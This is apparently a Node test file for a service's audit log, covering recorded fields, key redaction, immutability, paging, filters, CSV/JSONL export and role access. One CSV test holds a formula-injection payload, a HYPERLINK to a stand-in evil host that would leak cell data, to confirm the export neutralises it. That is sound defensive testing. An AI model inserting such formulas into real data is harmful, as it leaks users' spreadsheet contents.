import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startTestService, type TestService } from '../api/test-service.ts';
import { deleteAuditEventsOlderThan } from '../../packages/server/src/modules/foundation/audit-log/index.ts';
import { invite, openBrowser, setUpOwner, type Browser } from './browser.ts';

describe('the audit log', () => {
  let service: TestService;
  let owner: Browser;
  const sql = (text: string, values: unknown[] = []) => service.api.platform.database.pool.query(text, values);
  const newest = async (action: string) =>
    (await owner.request('GET', `/v1/audit-events?limit=1&action=${action}`)).json.events[0];

  before(async () => {
    service = await startTestService();
    owner = await setUpOwner(service);
  });
  after(() => service.stop());

  test('contains the actor, time, address, action, target and result', async () => {
    const agent = { 'user-agent': 'browser of the test' };
    await owner.request('PATCH', `/v1/projects/${service.projectId}`, { name: 'Renamed' }, agent);
    const event = await newest('project.updated');
    assert.deepEqual(
      { ...event, id: '', at: '', requestId: '', actor: { ...event.actor, id: '' } },
      {
        id: '',
        at: '',
        actor: { kind: 'user', id: '', name: 'ada@example.com' },
        action: 'project.updated',
        target: { kind: 'project', id: service.projectId, name: 'Renamed' },
        result: 'success',
        address: '127.0.0.1',
        userAgent: 'browser of the test',
        requestId: '',
        details: { fields: ['name'] },
      },
    );
    assert.match(event.requestId, /^req_/);
  });

  test('has an event for every change made with a key, and contains no keys', async () => {
    const made: [string, string, unknown, string][] = [
      ['POST', '/v1/api-keys', { name: 'k' }, 'api_key.created'],
      ['PATCH', '/v1/organization', { name: 'O' }, 'organization.updated'],
      ['POST', '/v1/repositories', { name: 'r' }, 'repository.created'],
      ['DELETE', '/v1/repositories/r', undefined, 'repository.deleted'],
      ['POST', '/v1/projects', { name: 'P', repository: 'local:example-docs' }, 'project.created'],
      ['POST', `/v2/agent/${service.projectId}/job`, { prompt: 'x' }, 'agent_job.created'],
      ['POST', '/v1/static-export/jobs', { domain: service.domain }, 'static_export.started'],
      ['POST', '/v1/organization/invitations', { email: 'a@example.com', role: 'viewer' }, 'invitation.created'],
    ];
    for (const [method, path, body, action] of made) {
      const answer = await service.request(method, path, body === undefined ? {} : { body });
      assert.ok(answer.status < 300, answer.text);
      const event = await newest(action);
      assert.equal(event?.requestId, answer.headers.get('x-request-id'), action);
      assert.equal(event.actor.kind, 'api_key');
      assert.equal(event.actor.name, 'first key');
      const id = answer.json?.id ?? answer.json?.jobId;
      if (id !== undefined && event.target.kind !== 'organization') assert.equal(event.target.id, id, action);
    }
    const key = await service.request('POST', '/v1/api-keys', { body: { name: 'secret of mine' } });
    const { rows } = await sql('select e::text as row from audit_events e');
    assert.ok(
      rows.every(({ row }: { row: string }) => !row.includes(key.json.key)),
      'no key is in the log',
    );
  });

  test('has no event for an idempotent replay or a rejected change', async () => {
    const count = async () => Number((await sql('select count(*) from audit_events')).rows[0].count);
    const headers = { 'idempotency-key': 'once' };
    const body = { prompt: 'y' };
    await service.request('POST', `/v2/agent/${service.projectId}/job`, { body, headers });
    const before = await count();
    const replay = await service.request('POST', `/v2/agent/${service.projectId}/job`, { body, headers });
    assert.equal(replay.headers.get('idempotent-replayed'), 'true');
    await service.request('PATCH', `/v1/projects/${service.projectId}`, { body: { domains: ['not a domain'] } });
    assert.equal(await count(), before);
  });

  test('has an event for rejected sign-ins by known and unknown users', async () => {
    for (const email of ['ada@example.com', 'eve@example.com']) {
      await openBrowser(service).request('POST', '/auth/sign-in', { email, password: 'wrong' });
      const event = await newest('session.created');
      assert.deepEqual([event.actor.name, event.result], [email, 'refused']);
      assert.equal(event.actor.kind, email.startsWith('ada') ? 'user' : 'anonymous');
    }
  });

  test('events can’t be changed or removed, except that the age setting removes old events', async () => {
    for (const statement of [
      `update audit_events set action = 'x'`,
      'delete from audit_events',
      'truncate audit_events',
      `begin; set local docwright.audit_retention = 'on'; delete from audit_events; commit`,
    ]) {
      await assert.rejects(sql(statement), /never changed or removed/, statement);
      await sql('rollback');
    }
    await sql('alter table audit_events disable trigger guard_audit_event');
    await sql(`update audit_events set at = now() - interval '40 days' where id = (select min(id) from audit_events)`);
    await sql('alter table audit_events enable trigger guard_audit_event');
    assert.equal(await deleteAuditEventsOlderThan(service.api.platform.database, 30), 1);
    assert.equal(await deleteAuditEventsOlderThan(service.api.platform.database, 30), 0);
  });

  test('pages contain each event once, and filters return only the matching events', async () => {
    const seen: string[] = [];
    let cursor = '';
    do {
      const page = await owner.request('GET', `/v1/audit-events?limit=3${cursor === '' ? '' : `&cursor=${cursor}`}`);
      seen.push(...page.json.events.map(({ id }: { id: string }) => id));
      cursor = page.json.nextCursor ?? '';
    } while (cursor !== '');
    const { rows } = await sql('select id::text from audit_events e order by e.id desc');
    assert.deepEqual(
      seen,
      rows.map(({ id }: { id: string }) => id),
    );
    const count = async (query: string) =>
      (await owner.request('GET', `/v1/audit-events?limit=100&${query}`)).json.events.length;
    assert.equal(await count('actor=eve@example.com'), 1);
    assert.equal(await count(`target=${service.projectId}&action=project.updated`), 1);
    assert.equal(await count('action=api_key.'), 2);
    assert.equal(await count('action=api%25'), 0, 'a % is itself');
    assert.equal(await count('to=2020-01-01T00:00:00Z'), 0);
    assert.equal(await count('from=2020-01-01T00:00:00Z&result=refused'), 2);
    assert.equal((await owner.request('GET', '/v1/audit-events?cursor=x')).status, 400);
  });

  test('CSV contains no formulas that a spreadsheet would run, and JSONL has one object per line', async () => {
    const name = '=HYPERLINK("https://evil.example?x="&A1,"click")';
    await service.request('POST', '/v1/api-keys', { body: { name } });
    await service.request('POST', '/v1/api-keys', { body: { name: '  @SUM(1)\nnext, "line"' } });
    const csv = await owner.request('GET', '/v1/audit-events/export?format=csv&action=api_key.');
    assert.match(csv.headers.get('content-disposition') ?? '', /attachment; filename="audit-log\.csv"/);
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    assert.ok(csv.text.includes(`"'${name.replaceAll('"', '""')}"`));
    assert.ok(csv.text.includes(`"'  @SUM(1)\nnext, ""line"""`));
    assert.doesNotMatch(csv.text, /(^|,)"?[=+@-]/m);
    const jsonl = await owner.request('GET', '/v1/audit-events/export?format=jsonl');
    const lines = jsonl.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    const { rows } = await sql('select count(*)::int as n from audit_events');
    assert.equal(lines.length, rows[0].n);
    assert.equal((await owner.request('GET', '/v1/audit-events/export?format=xml')).status, 400);
  });

  test('a log of 5,000 events is exported completely', async () => {
    await sql(
      `insert into audit_events (organization_id, actor_kind, actor_name, action, result)
       select $1, 'system', 'system', 'test.filled', 'success' from generate_series(1, 5000)`,
      [service.organizationId],
    );
    const file = await owner.request('GET', '/v1/audit-events/export?format=jsonl&action=test.');
    assert.equal(file.text.trimEnd().split('\n').length, 5_000);
  });

  test('an editor cannot read it', async () => {
    const editor = await invite(service, owner, { email: 'editor@example.com', role: 'editor' });
    assert.equal((await editor.request('GET', '/v1/audit-events')).json.code, 'insufficient_scope');
    assert.equal((await editor.request('GET', '/v1/audit-events/export?format=csv')).json.code, 'insufficient_scope');
  });
});
